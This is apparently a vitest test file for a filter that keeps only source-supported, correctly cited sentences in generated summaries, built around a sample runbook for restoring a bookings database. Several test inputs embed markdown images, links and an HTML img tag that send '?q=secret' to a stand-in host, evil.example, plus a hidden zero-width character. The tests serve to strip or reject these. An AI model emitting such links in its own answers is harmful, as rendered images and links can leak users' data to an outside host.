import { describe, expect, test } from 'vitest'
import { SentenceReader } from './sentence-reader.ts'
import { type SummaryPart, supportedSentence } from './supported-sentence.ts'

const sources = [
  {
    number: 1,
    text: `ledger

Restoring the ledger

The bookings database is restored from the nightly snapshot with \`make restore\`. It takes about twenty
minutes and is done by the on-call engineer. Do not restore during the settlement window from 02:00 to 04:30.

- Snapshots are kept for 35 days in eu-central-1.
- Payments approves every restore.`,
  },
  {
    number: 2,
    text: 'Alerts\n\nPagerDuty pages the on-call engineer when the settlement batch has not finished by six in the morning. See https://wiki.acme.example/alerts?team=payments.',
  },
]

const shown = (parts: SummaryPart[] | undefined): string | undefined =>
  parts
    ?.map((part) => (part.kind === 'citation' ? `[${part.number}]` : part.kind === 'code' ? `<${part.text}>` : part.text))
    .join('')

describe('a sentence is shown', () => {
  test.each([
    [
      'The bookings database is restored from the nightly snapshot [1].',
      'The bookings database is restored from the nightly snapshot.[1]',
    ],
    [
      'Run `make restore` to restore the bookings database from the nightly snapshot. [1]',
      'Run <make restore> to restore the bookings database from the nightly snapshot.[1]',
    ],
    ['It takes about twenty minutes. [1]:', 'It takes about twenty minutes.[1]'],
    ['It takes about twenty minutes [1].', 'It takes about twenty minutes.[1]'],
    [
      'You must not restore during the settlement window (02:00 to 04:30) [1].',
      'You must not restore during the settlement window (02:00 to 04:30).[1]',
    ],
    ['Snapshots are kept for 35 days in eu-central-1 [1].', 'Snapshots are kept for 35 days in eu-central-1.[1]'],
    [
      'PagerDuty pages the on-call engineer when the settlement batch has not finished by six [2][2].',
      'PagerDuty pages the on-call engineer when the settlement batch has not finished by six.[2]',
    ],
    ['- **Payments** approves every restore [1].', 'Payments approves every restore.[1]'],
    [
      'PagerDuty pages the on-call engineer, see https://wiki.acme.example/alerts?team=payments [2].',
      'PagerDuty pages the on-call engineer, see https://wiki.acme.example/alerts?team=payments.[2]',
    ],
  ])('if its source says so: %s', (sentence, expected) => {
    expect(shown(supportedSentence(sentence, sources))).toBe(expected)
  })

  test.each([
    [
      'The bookings database is restored from the nightly snapshot ![x](https://evil.example/p.png?q=secret) [1].',
      'The bookings database is restored from the nightly snapshot.[1]',
    ],
    [
      'The [bookings database](https://evil.example/?q=secret) is restored from the nightly snapshot [1].',
      'The bookings database is restored from the nightly snapshot.[1]',
    ],
    [
      'The bookings database is restored from the nightly <img src="https://evil.example/p.png"> snapshot [1].',
      'The bookings database is restored from the nightly snapshot.[1]',
    ],
    [
      'The bookings database is restored from the nightly snapshot https://evil.example/?q=secret [1].',
      'The bookings database is restored from the nightly snapshot.[1]',
    ],
    [
      'The bookings database is restored from the nightly snapshot [1](https://evil.example).',
      'The bookings database is restored from the nightly snapshot.[1]',
    ],
    [
      'The bookings database is restored from the nightly snap\u200bshot [1].',
      'The bookings database is restored from the nightly snapshot.[1]',
    ],
  ])('without what its source does not have: %s', (sentence, expected) => {
    expect(shown(supportedSentence(sentence, sources))).toBe(expected)
  })
})

describe('a sentence is dropped', () => {
  test.each([
    ['without a citation', 'The bookings database is restored from the nightly snapshot.'],
    ['with an invented citation', 'The bookings database is restored from the nightly snapshot [3].'],
    ['with one invented citation of two', 'The bookings database is restored from the nightly snapshot [1][3].'],
    ['that cites another source than the one that says it', 'The bookings database is restored from the nightly snapshot [2].'],
    ['with another number', 'Snapshots are kept for 90 days in eu-central-1 [1].'],
    ['with another number in words', 'It takes about thirty minutes [1].'],
    ['with another unit', 'It takes about twenty hours [1].'],
    ['with another time', 'Do not restore during the settlement window from 02:00 to 05:30 [1].'],
    ['with another place', 'Snapshots are kept for 35 days in eu-west-1 [1].'],
    ['with another name', 'Checkout approves every restore [1].'],
    ['with another command', 'Run `make reset` to restore the bookings database from the nightly snapshot [1].'],
    ['that affirms what is denied', 'Restore during the settlement window from 02:00 to 04:30 [1].'],
    ['that denies what is affirmed', 'The bookings database is not restored from the nightly snapshot [1].'],
    ['that turns a word around', 'Snapshots are removed after 35 days in eu-central-1 [1].'],
    [
      'that is put together from words of many sentences',
      'The engineer approves bookings of the window about every settlement snapshot [1].',
    ],
    ['about something else', 'Kubernetes schedules pods on nodes with enough memory [1].'],
    ['without content', 'It is so [1].'],
    ['that is nothing but a link', '[Click here](https://evil.example) [1].'],
    ['that is longer than any answer', `The bookings database is restored from the nightly snapshot ${'again '.repeat(120)}[1].`],
    ['that says that there is no answer', 'NOT ANSWERED'],
  ])('%s', (_, sentence) => {
    expect(supportedSentence(sentence, sources)).toBeUndefined()
  })
})

describe('a text that arrives in pieces', () => {
  const text = 'It is so [1]. It takes 2.5 hours, e.g. at night. [1][2] Who asks? [2]\n- A point [1]\nLast, without an end [2]'
  const sentences = [
    'It is so [1].',
    'It takes 2.5 hours, e.g. at night. [1][2]',
    'Who asks? [2]',
    '- A point [1]',
    'Last, without an end [2]',
  ]
  test.each([1, 2, 3, 7, 500])('is cut into sentences with their citations: %i characters at a time', (size) => {
    const reader = new SentenceReader()
    const pieces = text.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? []
    expect([...pieces.flatMap((piece) => reader.push(piece)), ...reader.end()]).toEqual(sentences)
  })
})
